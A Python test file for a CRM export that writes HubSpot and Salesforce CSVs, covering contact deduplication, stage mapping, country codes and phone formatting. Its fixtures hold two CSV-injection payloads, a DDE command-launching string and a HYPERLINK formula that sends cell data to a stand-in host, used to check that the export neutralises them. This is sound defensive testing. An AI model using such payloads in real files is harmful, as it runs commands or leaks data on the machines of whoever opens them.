"""CRM files say what Mission Desk knows, in the form HubSpot and Salesforce accept.

The rules, and where they come from:

* HubSpot deduplicates contacts by e-mail address (knowledge.hubspot.com, "If I import a list two
  times will it create duplicate contacts?": "HubSpot will deduplicate contacts based off of email
  address"; "Why does my imported list have fewer contacts…": "if more than one contact in the CSV
  share the same email address, only one contact … will be created"), so a person is one row, with
  every lead folded in: the most advanced stage, the owner of the newest lead, the notes of all.
* HubSpot's default Lifecycle stage options (internal values) and Lead status options
  (knowledge.hubspot.com/contacts/use-lifecycle-stages; HubSpot's default contact properties).
* Salesforce's default Lead Status values; "Closed - Converted" is a converted status
  (LeadStatus.IsConverted), reached only by conversion, which creates an account, a contact and an
  opportunity (convertLead(), Salesforce SOAP API reference) — an import creates none of them.
* Salesforce state and country picklists: CountryCode is the ISO 3166 alpha-2 code; Country must be
  the integration value, by default the standard name ("Korea, Republic of", not "South Korea")
  (help.salesforce.com: "State, Country, and Territory Picklist Fields", "Standard Countries and
  Territories for Address Picklists").
* HubSpot phone validation wants E.164 (knowledge.hubspot.com/properties/phone-number-property-validation:
  "+1 (888) 482-7768 would be saved as +18884827768"): an apostrophe in front is not a number.
* OWASP CSV injection: a phone cell that is not a phone number (``+1+cmd|…``, ``=HYPERLINK(…)``)
  is neutralised like any other text.

Files are read back with the csv module (BOM, quoting) and, where LibreOffice is installed, opened
as a spreadsheet would open them.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from planner.cli import main
from planner.domain.enums import LeadStage
from planner.exports.sheets.crm import (
    HUBSPOT_STAGE,
    SALESFORCE_DESCRIPTION_MAX,
    SALESFORCE_STATUS,
    salesforce_rows,
)
from planner.services.events.delegations import add_delegate, add_delegation
from planner.services.events.events import add_event
from planner.services.followup.followups import add_lead
from planner.services.followup.leads import CrmContact, CrmLead
from planner.services.people.people import add_organisation, add_person
from planner.storage.database import Database

pytestmark = pytest.mark.engines

# HubSpot's default options (internal values) and Salesforce's default picklists, as documented.
HUBSPOT_LIFECYCLE = ("subscriber", "lead", "marketingqualifiedlead", "salesqualifiedlead", "opportunity",
                     "customer", "evangelist", "other")
HUBSPOT_LEAD_STATUS = {"NEW", "OPEN", "IN_PROGRESS", "OPEN_DEAL", "UNQUALIFIED", "ATTEMPTED_TO_CONTACT",
                       "CONNECTED", "BAD_TIMING"}
SALESFORCE_LEAD_STATUS = {"Open - Not Contacted", "Working - Contacted", "Closed - Converted",
                          "Closed - Not Converted"}
SALESFORCE_RATING = {"", "Hot", "Warm", "Cold"}
OPEN_STAGES = (LeadStage.NEW, LeadStage.QUALIFIED, LeadStage.INTRODUCED, LeadStage.PROPOSAL, LeadStage.AGREED)

REAL_PHONE = "+81 6 1234 5678"
DDE_PHONE = "+1+cmd|' /C calc'!A0"
LINK_PHONE = '=HYPERLINK("http://x.example/?d="&A1,"call")'
E164 = re.compile(r"\+[1-9][0-9]{1,14}")


def _at(day: int) -> datetime:
    return datetime(2026, 10, day, 9, 0)


@pytest.fixture
def mission_db(db_target: str) -> Iterator[Database]:
    db = Database.open(db_target)
    with db.transaction() as s:
        event = add_event(s, code="mission", name="Korea mission", start_date=date(2026, 10, 13),
                          end_date=date(2026, 10, 16), tz="Asia/Seoul")
        delegation = add_delegation(s, event, name="UK delegation")
        ours = add_organisation(s, name="Lune Microbiome Ltd", country="GB")
        alice, bob, carol = (add_person(s, given_name=n, family_name="Owner", email=f"{n.lower()}@lune.example",
                                        organisation=ours) for n in ("Alice", "Bob", "Carol"))
        for p in (alice, bob, carol):
            add_delegate(s, delegation, p)
        hanbit = add_organisation(s, name="Hanbit Bio", country="KR", city="Seoul")
        kim = add_person(s, given_name="Minjun", family_name="Kim", email="kim@hanbit.example",
                         organisation=hanbit, phone="+82 2 1234 5678", lead_sharing_consent=True)
        # four leads; the newest (by when it was made) is the first one written, owned by Carol
        for title, stage, owner, notes, day in (
                ("Distribution", LeadStage.NEW, carol, "Asked for the price list", 16),
                ("Samples", LeadStage.QUALIFIED, alice, "Wants samples of strain 7", 13),
                ("Licence", LeadStage.PROPOSAL, bob, "Term sheet sent", 14),
                ("Co-development", LeadStage.LOST, alice, "Not the cell line they need", 15)):
            lead = add_lead(s, event, person=kim, owner=owner, stage=stage, title=title, notes=notes)
            lead.created_at = _at(day)
        # one person twice (two registration exports, e-mail case differs) and a third copy
        # without consent: one contact, and the unconsented lead stays out
        park1 = add_person(s, given_name="Seoyeon", family_name="Park", email="Park@hanbit.example",
                           organisation=hanbit, lead_sharing_consent=True)
        park2 = add_person(s, given_name="Seoyeon", family_name="Park", email="park@hanbit.example",
                           job_title="CTO", lead_sharing_consent=True)
        park3 = add_person(s, given_name="Seoyeon", family_name="Park", email="PARK@hanbit.example",
                           lead_sharing_consent=False)
        add_lead(s, event, person=park1, owner=alice, stage=LeadStage.NEW, notes="Met at the reception").created_at = _at(13)
        add_lead(s, event, person=park2, owner=bob, stage=LeadStage.LOST, notes="Budget frozen").created_at = _at(14)
        add_lead(s, event, person=park3, owner=bob, stage=LeadStage.AGREED, notes="PRIVATE NOTE").created_at = _at(15)
        kansai = add_organisation(s, name="Kansai Bio", country="JP", city="Osaka")
        tanaka = add_person(s, given_name="Aiko", family_name="Tanaka", email="tanaka@kansai.example",
                            organisation=kansai, phone=REAL_PHONE, lead_sharing_consent=True)
        add_lead(s, event, person=tanaka, owner=bob, stage=LeadStage.AGREED, title="Supply deal")
        taipei = add_organisation(s, name="Formosa Cells", country="TW", city="Taipei")
        lin = add_person(s, given_name="Wei", family_name="Lin", email="lin@formosa.example",
                         organisation=taipei, lead_sharing_consent=True)
        add_lead(s, event, person=lin, owner=carol, stage=LeadStage.INTRODUCED)
        for email, phone in (("dde@x.example", DDE_PHONE), ("link@x.example", LINK_PHONE)):
            person = add_person(s, given_name="Hostile", family_name="Phone", email=email,
                                organisation=kansai, lead_sharing_consent=True)
            person.phone = phone  # as if from an old import: the cell must still be safe
            add_lead(s, event, person=person, owner=alice)
    yield db
    db.close()


def export(db: Database, tmp_path: Path, fmt: str) -> tuple[Path, list[dict[str, str]]]:
    out = tmp_path / f"{fmt}.csv"
    assert main(["--db", db.target, "export", "crm", "--event", "mission", "--format", fmt,
                 "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        return out, list(csv.DictReader(fh))


def by_email(rows: list[dict[str, str]], column: str = "Email") -> dict[str, dict[str, str]]:
    return {r[column].casefold(): r for r in rows}


@pytest.mark.parametrize("fmt", ["hubspot", "salesforce"])
def test_a_person_with_four_leads_is_one_row(mission_db: Database, tmp_path: Path, fmt: str) -> None:
    _, rows = export(mission_db, tmp_path, fmt)
    emails = [r["Email"].casefold() for r in rows]
    assert len(emails) == len(set(emails)), "HubSpot keeps one contact per e-mail: one row each"
    assert emails.count("kim@hanbit.example") == 1
    kim = by_email(rows)["kim@hanbit.example"]
    notes = kim["Message"] if fmt == "hubspot" else kim["Description"]
    for text in ("Asked for the price list", "Wants samples of strain 7", "Term sheet sent",
                 "Not the cell line they need"):
        assert text in notes  # the notes of all four leads
    assert notes.startswith("4 leads from Korea mission")
    if fmt == "hubspot":
        # most advanced stage: proposal (lost is behind every open stage); owner of the newest lead
        assert (kim["Lifecycle Stage"], kim["Lead Status"]) == ("opportunity", "IN_PROGRESS")
        assert kim["Contact Owner"] == "carol@lune.example"
    else:
        assert (kim["Status"], kim["Rating"]) == ("Working - Contacted", "Hot")
        assert "Owner: carol@lune.example" in notes


@pytest.mark.parametrize("fmt", ["hubspot", "salesforce"])
def test_same_address_in_another_case_is_the_same_contact(mission_db: Database, tmp_path: Path, fmt: str) -> None:
    _, rows = export(mission_db, tmp_path, fmt)
    parks = [r for r in rows if r["Email"].casefold() == "park@hanbit.example"]
    assert len(parks) == 1
    park = parks[0]
    notes = park["Message"] if fmt == "hubspot" else park["Description"]
    assert "Met at the reception" in notes and "Budget frozen" in notes
    assert "PRIVATE NOTE" not in notes and "agreed" not in notes  # the unconsented copy's lead stays out
    # a lost lead does not outrank an open one; the details of both copies are kept
    assert park["Job Title" if fmt == "hubspot" else "Title"] == "CTO"
    assert park["Company Name" if fmt == "hubspot" else "Company"] == "Hanbit Bio"
    if fmt == "hubspot":
        assert (park["Lifecycle Stage"], park["Lead Status"]) == ("lead", "NEW")
    else:
        assert park["Status"] == "Open - Not Contacted"


@pytest.mark.parametrize("fmt", ["hubspot", "salesforce"])
def test_a_real_phone_number_keeps_its_plus(mission_db: Database, tmp_path: Path, fmt: str) -> None:
    out, rows = export(mission_db, tmp_path, fmt)
    column = "Phone Number" if fmt == "hubspot" else "Phone"
    tanaka = by_email(rows)["tanaka@kansai.example"]
    assert tanaka[column] == REAL_PHONE
    assert E164.fullmatch(re.sub(r"[ ().\-/]", "", tanaka[column]))  # what HubSpot's validation keeps
    assert f'"{REAL_PHONE}"'.encode() in out.read_bytes()  # no apostrophe in the file either
    assert by_email(rows)["kim@hanbit.example"][column] == "+82 2 1234 5678"


@pytest.mark.parametrize("fmt", ["hubspot", "salesforce"])
def test_a_phone_cell_that_is_no_phone_number_is_neutralised(mission_db: Database, tmp_path: Path,
                                                             fmt: str) -> None:
    _, rows = export(mission_db, tmp_path, fmt)
    column = "Phone Number" if fmt == "hubspot" else "Phone"
    people = by_email(rows)
    assert people["dde@x.example"][column] == "'" + DDE_PHONE
    assert people["link@x.example"][column] == "'" + LINK_PHONE
    for row in rows:
        for name, value in row.items():
            if name != column or not value.startswith("+"):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_salesforce_gets_the_iso_country_code(mission_db: Database, tmp_path: Path) -> None:
    _, rows = export(mission_db, tmp_path, "salesforce")
    people = by_email(rows)
    kim, lin, tanaka = people["kim@hanbit.example"], people["lin@formosa.example"], people["tanaka@kansai.example"]
    assert (kim["Country"], kim["CountryCode"]) == ("Korea, Republic of", "KR")  # never "South Korea"
    assert (lin["Country"], lin["CountryCode"]) == ("Taiwan", "TW")
    assert (tanaka["Country"], tanaka["CountryCode"]) == ("Japan", "JP")
    assert all(re.fullmatch(r"[A-Z]{2}", r["CountryCode"]) for r in rows)
    _, hubspot = export(mission_db, tmp_path, "hubspot")
    assert by_email(hubspot)["kim@hanbit.example"]["Country/Region"] == "South Korea"  # free text there


def test_agreed_is_an_open_lead_to_convert_not_a_converted_one(mission_db: Database, tmp_path: Path) -> None:
    _, rows = export(mission_db, tmp_path, "salesforce")
    tanaka = by_email(rows)["tanaka@kansai.example"]
    assert tanaka["Status"] != "Closed - Converted"
    assert (tanaka["Status"], tanaka["Rating"]) == ("Working - Contacted", "Hot")
    assert "Supply deal — stage: agreed" in tanaka["Description"]
    assert "convert this lead in Salesforce" in tanaka["Description"]
    _, hubspot = export(mission_db, tmp_path, "hubspot")
    assert (by_email(hubspot)["tanaka@kansai.example"]["Lifecycle Stage"],
            by_email(hubspot)["tanaka@kansai.example"]["Lead Status"]) == ("opportunity", "CONNECTED")


@pytest.mark.parametrize("stage", list(LeadStage))
def test_every_stage_maps_to_a_default_value_of_each_crm(stage: LeadStage) -> None:
    lifecycle, lead_status = HUBSPOT_STAGE[stage]
    assert lifecycle in HUBSPOT_LIFECYCLE and lead_status in HUBSPOT_LEAD_STATUS
    # an import creates no deal: nothing claims one
    assert lifecycle not in {"customer", "evangelist"} and lead_status != "OPEN_DEAL"
    status, rating = SALESFORCE_STATUS[stage]
    assert status in SALESFORCE_LEAD_STATUS and rating in SALESFORCE_RATING
    assert status != "Closed - Converted"  # only conversion sets a converted status


def test_a_more_advanced_stage_never_goes_back_in_the_crm() -> None:
    ranks = [HUBSPOT_LIFECYCLE.index(HUBSPOT_STAGE[s][0]) for s in OPEN_STAGES]
    assert ranks == sorted(ranks)
    assert HUBSPOT_STAGE[LeadStage.LOST][1] == "UNQUALIFIED"
    assert SALESFORCE_STATUS[LeadStage.LOST][0] == "Closed - Not Converted"


@pytest.mark.parametrize("fmt", ["hubspot", "salesforce"])
def test_file_is_utf8_bom_every_field_quoted_crlf(mission_db: Database, tmp_path: Path, fmt: str) -> None:
    out, _ = export(mission_db, tmp_path, fmt)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf\"") and raw.count(b"\xef\xbb\xbf") == 1
    text = raw.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    again = io.StringIO(newline="")
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(parsed)
    assert again.getvalue() == text  # every field quoted, rows end CRLF, nothing else in the file
    assert len({len(r) for r in parsed}) == 1


def test_the_description_fits_salesforce() -> None:
    lead = CrmLead("u1", "Big", LeadStage.NEW, "", None, "", "x" * 40_000, "", None, _at(13))
    contact = CrmContact(1, (1,), "A", "B", "", "a@b.example", "", "", "", "", "", LeadStage.NEW, "", (lead,))
    description = salesforce_rows([contact], "Mission")[0][-1]
    assert len(description) == SALESFORCE_DESCRIPTION_MAX
    assert description.endswith("the rest is in Mission Desk]")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_opening_the_file_runs_no_formula(mission_db: Database, tmp_path: Path) -> None:
    """The file may be opened in a spreadsheet before it is imported: LibreOffice reads the
    phone number as text and finds no formula anywhere."""
    out, rows = export(mission_db, tmp_path, "hubspot")
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path), str(out)],
                   check=True, capture_output=True, timeout=180)
    sheet = openpyxl.load_workbook(tmp_path / "hubspot.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    phone = header.index("Phone Number")
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert REAL_PHONE in [row[phone] for row in values]
    assert len(values) == len(rows)
